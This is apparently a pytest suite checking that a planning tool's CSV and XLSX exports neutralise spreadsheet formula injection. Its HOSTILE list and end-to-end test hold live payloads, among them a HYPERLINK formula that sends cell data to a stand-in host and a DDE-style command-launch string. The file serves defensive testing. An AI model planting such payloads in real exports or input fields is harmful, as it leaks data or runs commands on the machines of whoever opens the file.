"""Row 1 of issue 17: no CSV/XLSX the product writes carries a live formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from handlers import exports, spreadsheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "@x",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _columns(what: str) -> list[str]:
    """Every column the export writes for ``what``, read from the writer itself."""
    key, _, _ = exports.TABLES[what]
    header, _ = exports.flat_rows({key: [{"items": []}], "week": ""}, what)
    return header


def _hostile_data(what: str, text: str) -> dict:
    """Every column of the export's table filled: text everywhere, numbers in the items' second
    row, so the class of columns (today's and any added later) is covered, not one example."""
    key, _, _ = exports.TABLES[what]
    columns = _columns(what)
    entry = {col: text for col in columns} | {"status": text}
    entry["items"] = [{col: text for col in columns}, {col: -1.5 for col in columns}]
    entry["adjustments"] = []
    return {key: [entry], "week": text}


def _csv_rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


@pytest.mark.parametrize("what", sorted(exports.TABLES))
@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_cells_never_start_a_formula(what, text):
    rows = _csv_rows(exports.encode(_hostile_data(what, text), what, "csv"))
    header, text_row, number_row = rows
    assert all(cell == "'" + text for cell in text_row)
    assert not any(cell.startswith(TRIGGERS) for cell in text_row)
    items = [i for i, col in enumerate(header) if number_row[i] != text_row[i]]
    assert items and all(number_row[i] == "-1.5" for i in items)  # the item columns' numbers unchanged


@pytest.mark.parametrize("what", sorted(exports.TABLES))
@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_text_cells_are_strings_never_formulas(what, text):
    raw = exports.encode(_hostile_data(what, text), what, "xlsx")
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(book.read(n) for n in sheets)
    assert b"<f>" not in xml and b"<f " not in xml
    ws = load_workbook(io.BytesIO(raw)).active
    rows = [list(r) for r in ws.iter_rows()]
    text_row, number_row = rows[1], rows[2]
    shown = text.replace("\r", "\n")  # XML reads a raw CR back as LF; it stays text either way
    assert all(c.data_type == "s" and c.value == shown for c in text_row)
    numbers = [c for c in number_row if c.value != shown]
    assert numbers and [(c.data_type, c.value) for c in numbers] == [("n", -1.5)] * len(numbers)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("优化详情页", "优化详情页"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (2.5, 2.5),
        (True, True),
    ],
)
def test_csv_cell_table(value, expected):
    assert spreadsheets.csv_cell(value) == expected


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("what", ["plans", "progress"])
def test_a_filed_plan_item_with_a_formula_is_exported_inert(tmp_path, engine, client, demo_team, fmt, what):
    """End to end: a person files the issue's item text; `planloop export` writes it as text."""
    from bot.cli.commands import main

    text = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    values = {"item1_text": text, "item1_kpi": "conversion_rate", "item1_target": "+2%"}
    res = client.post(
        "/sim/api/act", json={"as": "lilei", "chat": "dm", "action": "plan.submit", "values": values}
    )
    assert res.status_code == 200
    config = tmp_path / "planloop.toml"
    config.write_text(f'[server]\ndatabase_url = "{engine.url.render_as_string(hide_password=False)}"\n')
    out = tmp_path / f"export.{fmt}"
    args = ["--config", str(config), "export", what, "--week", "2026-W48", "--format", fmt, "-o", str(out)]
    assert main(args) == 0
    if fmt == "csv":
        rows = _csv_rows(out.read_bytes())
        assert ["'" + text] == [c for r in rows for c in r if text in c]
    else:
        with zipfile.ZipFile(out) as book:
            xml = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
        assert b"<f>" not in xml
        cells = [c for r in load_workbook(out).active.iter_rows() for c in r if c.value == text]
        assert [c.data_type for c in cells] == ["s"]
